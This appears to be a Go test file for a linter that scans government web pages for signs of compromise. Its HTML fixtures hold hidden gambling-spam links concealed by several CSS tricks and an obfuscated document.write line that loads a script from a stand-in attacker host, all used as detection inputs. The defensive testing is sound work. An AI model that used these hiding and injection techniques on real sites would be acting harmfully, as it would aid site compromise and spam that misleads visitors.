package extract

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/govlint/govlint/internal/site"
)

// Every way an injected link is hidden is recorded with its reason, and
// only for links that leave the page's host; visible links, the site's own
// hidden menu, an off-screen skip link to the page itself and an off-canvas
// mobile menu (a few hundred pixels left) are not.
func TestHiddenOutboundLinks(t *testing.T) {
	body := `<html><head><meta charset="utf-8"><style>.yc{display:none} #box2 { visibility : hidden }</style></head><body>
	<div style="position:absolute;left:-9999px"><a href="http://spam1.example.com/">澳门葡京</a></div>
	<div class="a yc b"><a href="http://spam2.example.com/">百家乐</a></div>
	<div id="box2"><span><a href="http://spam3.example.com/">x</a></span></div>
	<div style="width:0;height:0;overflow:hidden"><a href="http://spam4.example.com/">y</a></div>
	<p style="font-size:1px"><a href="http://spam5.example.com/">z</a></p>
	<table bgcolor="#FFFFFF"><tr><td><font color="white"><a href="http://spam6.example.com/">w</a></font></td></tr></table>
	<div hidden><a href="http://spam7.example.com/">v</a></div>
	<marquee height="1" width="1" scrollamount="3000"><a href="http://spam9.example.com/">t</a></marquee>
	<p style="text-indent:-2000px"><a href="http://spam8.example.com/">u</a></p>
	<div class="menu" style="display:none"><a href="/index.html">首页</a><a href="http://www.example.gov.cn/x">x</a></div>
	<a href="#main" style="position:absolute;left:-999px">跳到主要内容</a>
	<p>visible <a href="http://news.example.com/">新闻</a> <span style="color:#333;background:#fff"><a href="http://ok.example.com/">ok</a></span></p>
	<div style="position:relative;left:-5px"><a href="http://ok2.example.com/">ok2</a></div>
	<nav style="position:fixed;left:-320px;width:300px"><a href="http://weibo.example.com/gov">官方微博</a></nav>
	</body></html>`
	p := htmlPage(t, "http://www.example.gov.cn/a/t1.html", body)
	got := map[string]string{}
	for _, h := range p.HiddenLinks {
		got[h.Host] = h.Reason
	}
	assert.Equal(t, map[string]string{
		"spam1.example.com": "off-screen", "spam2.example.com": "display:none", "spam3.example.com": "visibility:hidden",
		"spam4.example.com": "zero-size", "spam5.example.com": "tiny-font", "spam6.example.com": "same-colour",
		"spam7.example.com": "hidden", "spam8.example.com": "off-screen", "spam9.example.com": "zero-size",
	}, got)
	for _, h := range p.HiddenLinks {
		if h.Host == "spam2.example.com" {
			assert.Equal(t, "百家乐", h.Text)
			assert.Contains(t, h.Element, `class="a yc b"`)
		}
	}
	assert.True(t, site.HiddenLink{Reason: "same-colour"}.Strong())
	assert.False(t, site.HiddenLink{Reason: "display:none"}.Strong())
}

// Scripts, frames and document.write-injected scripts from other hosts are
// recorded; the site's own scripts and inline code without a src are not.
func TestForeignEmbedsAndTrailing(t *testing.T) {
	body := `<html><head><meta charset="utf-8"><script src="/js/main.js"></script>
	<script src="https://hm.baidu.com/hm.js?1"></script>
	<script>document.write(unescape("%3Cscript src='http://x.evil.example/a.js'%3E%3C/script%3E"));</script>
	<script>var a = "<b>not a src</b>";</script></head><body>
	<iframe src="//video.example.net/player"></iframe><iframe src="/local/frame.html"></iframe>
	<form action="/search/q.jsp" method="get" class="search"><input name="searchword" placeholder="请输入关键字"><input type="hidden" name="siteid" value="7"><input type="submit" value="搜索"></form>
	</body></html><!-- cache 2026 -->
	<a href="http://slot.example.org/">老虎机</a>`
	p := htmlPage(t, "http://www.example.gov.cn/a/t1.html", body)
	var hosts []string
	for _, e := range p.Embeds {
		hosts = append(hosts, e.Tag+" "+e.Host)
	}
	assert.ElementsMatch(t, []string{"script hm.baidu.com", "script-write x.evil.example", "iframe video.example.net"}, hosts)
	assert.Equal(t, `<a href="http://slot.example.org/">老虎机</a>`, p.Trailing)
	require.Len(t, p.Forms, 1)
	f := p.Forms[0]
	assert.Equal(t, "http://www.example.gov.cn/search/q.jsp", f.Action)
	assert.Equal(t, "GET", f.Method)
	assert.Equal(t, []string{"searchword"}, f.Fields)
	assert.Equal(t, []string{"siteid=7"}, f.Hidden)
	assert.Contains(t, f.Hint, "请输入关键字")
	assert.Contains(t, f.Hint, "搜索")

	clean := htmlPage(t, "http://www.example.gov.cn/a/t2.html", "<html><body><p>x</p></body></html>\n<!-- a -->\n  ")
	assert.Empty(t, clean.Trailing)
	assert.Empty(t, clean.Embeds)
	assert.Empty(t, clean.HiddenLinks)
}

// On captured real gov pages: the 党政机关 badge and gov.cn statistics
// written by document.write are seen as script hosts, hidden share menus
// are recorded as display:none (weak: the check needs a spam word), and no
// real page has markup after </html>.
func TestSecurityOnRealPages(t *testing.T) {
	embeds := func(p *site.Page) map[string]bool {
		m := map[string]bool{}
		for _, e := range p.Embeds {
			m[e.Tag+" "+e.Host] = true
		}
		return m
	}
	nfra := htmlPage(t, "http://www.nfra.gov.cn/cn/view/pages/x.html", string(readRealPage(t, "nfra-xingzheng-chufa.html")))
	assert.True(t, embeds(nfra)["script dcs.conac.cn"], "%v", nfra.Embeds)
	for _, h := range nfra.HiddenLinks {
		assert.Equal(t, "display:none", h.Reason, h.Host)
		assert.False(t, h.Strong())
	}
	gov := htmlPage(t, "http://www.gov.cn/gongbao/x.htm", string(readRealPage(t, "gov-cn-gongbao-document.html")))
	assert.True(t, embeds(gov)["script-write stat.www.gov.cn"], "%v", gov.Embeds)
	for _, name := range []string{"nfra-xingzheng-chufa.html", "gov-cn-gongbao-document.html", "cmse-trs-article-large.html",
		"sh-wsjkw-article.html", "shanxi-gov-trs-article.html", "zj-fgw-hanweb-article.html", "cfda-list-2.html"} {
		p := htmlPage(t, "http://www.example.gov.cn/a/b.html", string(readRealPage(t, name)))
		assert.Empty(t, p.Trailing, name)
		if name != "sh-wsjkw-article.html" { // its search box is built by a script
			assert.NotNil(t, site.SearchForm(p), name)
		}
	}
}
